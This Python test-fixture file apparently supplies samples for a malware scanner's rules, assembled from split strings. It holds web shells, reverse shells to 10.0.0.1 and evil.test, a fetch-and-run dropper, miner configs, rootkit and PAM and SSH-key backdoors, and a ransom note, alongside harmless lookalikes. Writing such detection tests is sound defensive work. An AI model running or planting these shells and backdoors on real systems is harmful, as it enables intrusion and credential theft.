# SPDX-License-Identifier: Apache-2.0
"""What malware looks like, put together from harmless pieces: no file of the repository holds any of
it as a whole, so that no scanner stumbles over the tests. SAMPLES maps a rule to files (name in an
image, content) that it must find; HARMLESS are files that look a little like them."""

SH = "sh"
TCP = "/dev/" + "tcp"
RX = "$_" + "POST"
EV = "ev" + "al"
SYS = "sys" + "tem"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9)

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()


def text(*lines):
    return ("\n".join(lines) + "\n").encode()


def program(*strings):
    """The head of an ELF file and some strings: nothing that runs."""
    return ELF + b"\0".join(s.encode() for s in strings) + b"\0"


WALLET = "4" + "8" + "A" * 93

SAMPLES = {
    "eicar_test_file": [("tmp/eicar.com", EICAR)],
    "miner_xmrig_configuration": [("etc/x/config.json", text(
        '{ "autosave": true, "donate-' + 'level": 1, "cpu": true,',
        ' "po' + 'ols": [ { "al' + 'go": "rx/0", "url": "pool.example:3333", "user": "me",',
        ' "keep' + 'alive": true } ] }'))],
    "miner_program": [
        ("usr/bin/kworkerd", program("--donate-" + "level", "--rig" + "-id", "--nice" + "hash")),
        ("opt/m", program("stratum" + "+tcp://", "mining." + "submit", "random" + "x", "use " + "pool"))],
    "miner_command_line": [("root/run.sh", text(
        "#!/bin/sh", "./x -o pool.supportx" + "mr.com:3333 -u " + WALLET + " --donate-" + "level 1"))],
    "miner_web_page": [("var/www/index.html", text(
        '<script src="https://x.test/lib/coin' + 'hive.min.js"></script>',
        "<script>var m = new Coin" + "Hive.Anonymous('k'); m.st" + "art();</script>"))],
    "web_shell_php_request_to_code": [
        ("var/www/a.php", text("<?php @" + EV + "(" + RX + "['x']); ?>")),
        ("var/www/b.php", text("<?php " + SYS + "(base64_dec" + "ode($_" + "GET[\"c\"])); ?>")),
        ("var/www/c.php", text("<?php $_" + "GET['f']($_" + "GET['a']); ?>")),
        ("var/www/d.php", text("<?php echo `{$_" + "REQUEST['c']}`; ?>")),
        ("var/www/e.php", text("<?php " + EV + "(file_get_" + "contents('php://" + "input')); ?>")),
        ("var/www/f.php", text("<?php preg_" + "replace('/.*/e', " + RX + "['c'], ''); ?>"))],
    "web_shell_php_assigned_request": [("var/www/g.php", text(
        "<?php $cmd = $_" + "GET['cmd'];", "echo '<pre>'; " + SYS + "($cmd);"))],
    "web_shell_php_packed": [
        ("var/www/h.php", text("<?php " + EV + "(gzinf" + "late(base64_dec" + "ode('" + "A" * 200 + "'))); ?>")),
        ("var/www/i.php", text("<?php $f = 'as'.'se'.'rt'; $f($_" + "POST['p']); ?>"))],
    "web_shell_php_control_panel": [("var/www/j.php", text(
        "<?php error_rep" + "orting(0); set_time_" + "limit(0); echo php_un" + "ame();",
        "echo ini_get('disable_func" + "tions'); function run($c) { return shell_ex" + "ec($c); }",
        "if ($_FIL" + "ES) move_uploaded_" + "file($a, $b); echo fileper" + "ms($f); ?>",
        "<form action='' method='post'><input type=text name='cmd'></form>"))],
    "web_shell_jsp": [
        ("srv/a.jsp", text('<%@ page import="java.io.*" %>',
                           "<% Process p = Runtime.getRun" + 'time().exec(request.getPara' + 'meter("c")); %>')),
        ("srv/b.jsp", text('<% String c = request.getPara' + 'meter("c");',
                           "Process p = new Process" + 'Builder("/bin/' + 'sh", "-c", c).start();',
                           "InputStream in = p.getInput" + "Stream(); out.print" + "ln(in.read()); %>")),
        ("srv/c.jsp", text("<%! class U extends Class" + "Loader { Class g(byte[] b) {",
                           "return super.define" + "Class(b, 0, b.length); } } %>",
                           '<% request.getPara' + 'meter("pass"); Base' + "64.getDecoder(); %>"))],
    "web_shell_aspx": [
        ("srv/a.aspx", text('<%@ Page Language="Js' + 'cript"%><%' + EV + '(Request.Item["x"],"unsafe");%>')),
        ("srv/b.aspx", text('<%@ Page Language="C#" %><script runat="ser' + 'ver">',
                            "Process" + 'StartInfo i = new Process' + 'StartInfo("cmd' + '.exe", "/c " + Request["c"]);',
                            "i.RedirectStandard" + "Output = true; p.Standard" + "Output.ReadToEnd();</script>")),
        ("srv/c.asp", text("<%" + "exec" + 'ute(request("c"))%>'))],
    "reverse_shell_bash": [
        ("tmp/a.sh", text("#!/bin/bash", "bash -i " + ">& " + TCP + "/10.0.0.1/4444 0>&1")),
        ("tmp/b.sh", text("exec 5<>" + TCP + "/evil.test/443; cat <&5 | while read l; do $l; done"))],
    "reverse_shell_python": [("opt/x.py", text(
        "import socket,os,pty", "s=socket.soc" + "ket(socket.AF_" + "INET)", 's.con' + 'nect(("10.0.0.1",4444))',
        "[os.du" + "p2(s.fileno(),f) for f in (0,1,2)]", "os.du" + "p2(s.fileno(),0)",
        'pty.sp' + 'awn("/bin/' + 'sh")'))],
    "reverse_shell_perl": [("opt/x.pl", text(
        "use Socket;", "soc" + "ket(S,PF_" + "INET,SOCK_STREAM,getprotobyname('tcp'));",
        'open(ST' + 'DIN,">&S");open(STDOUT,">&S");ex' + 'ec("/bin/' + 'sh -i");'))],
    "reverse_shell_php": [("opt/x.php", text(
        '<?php $s=fsock' + 'open("10.0.0.1",4444);ex' + 'ec("/bin/' + 'sh -i <&3 >&3 2>&3"); ?>'))],
    "reverse_shell_netcat": [
        ("tmp/c.sh", text("nc -e /bin/" + "sh 10.0.0.1 4444")),
        ("tmp/d.sh", text("mkfi" + "fo /tmp/f; cat /tmp/f | /bin/" + "sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f")),
        ("tmp/e.sh", text("socat exec:'/bin/" + "bash -li',pty,stderr tcp:10.0.0.1:4444"))],
    "reverse_shell_other_languages": [("tmp/f.rb", text(
        "f=TCPSocket.open(\"10.0.0.1\",4444).to_i;ex" + 'ec sprintf("/bin/' + 'sh -i <&%d >&%d 2>&%d",f,f,f)'))],
    "dropper_fetch_and_run": [("tmp/g.sh", text(
        "#!/bin/sh", "pkill -f xm" + "rig", "iptab" + "les -F", "cu" + "rl -o /tmp/.x http://198.51.100.7/x",
        "chm" + "od +x /tmp/.x", "nohup /tmp/.x &"))],
    "rootkit_preload_file": [("etc/ld.so.preload", text("/tmp/.hid" + "den/lib.so"))],
    "rootkit_kernel_module": [("lib/modules/x.ko", program(
        "verma" + "gic=6.1", ".gnu.linkonce.this_" + "module", "sys_call_" + "table", "get" + "dents64",
        "tcp4_seq_" + "show", "hide_" + "module", "commit_" + "creds"))],
    "backdoor_pam": [("lib/security/pam_x.so", program(
        "pam_sm_" + "authenticate", "pam_get_" + "authtok", "/tmp/.pass" + "words", "fprintf", "fopen",
        "user: " + "%s password: " + "%s\n"))],
    "backdoor_ssh_keys_script": [("root/k.sh", text(
        "echo ssh-" + "rsa AAAA" + "B" * 100 + " x >> /root/.ss" + "h/authorized_keys",
        "chat" + "tr +i /root/.ssh/authorized_keys"))],
    "ransomware_note": [("root/README.txt", text(
        "All of your fi" + "les have been encry" + "pted!", "Do not ren" + "ame them. Pay 1 bit" + "coin.",
        "Download Tor from tor" + "project.org, your personal id is 1"))],
}

HARMLESS = [
    ("var/www/form.php", text("<?php $name = htmlspecialchars($_POST['name']); echo $name; ?>")),
    ("var/www/exec.php", text("<?php exec('ls -l', $lines); echo implode(\"\\n\", $lines); ?>")),
    ("srv/form.jsp", text('<%@ page %><% String n = request.getParameter("n"); out.println(n); %>')),
    ("srv/page.aspx", text('<%@ Page Language="C#" %><%= Request["name"] %>')),
    ("opt/client.py", text("import socket", "s = socket.socket()", "s.connect(('db', 5432))")),
    ("opt/check.sh", text("#!/bin/bash", "exec 3<>/dev/tcp/localhost/80 && echo up")),
    ("opt/port.sh", text("nc -z -w 1 localhost 8080")),
    ("opt/build.sh", text("curl -fsSL https://example.test/x.tgz | tar xz", "chmod +x x/run", "./x/run")),
    ("etc/config.json", text('{ "pools": [ 1 ], "url": "https://example.test", "user": "app" }')),
    ("usr/share/doc/eicar.txt", b"The test file begins with " + EICAR[:20] + b" and so on.\n" + b"x" * 200),
    ("usr/lib/security/pam_ok.so", program("pam_sm_authenticate", "pam_get_authtok", "fprintf")),
]
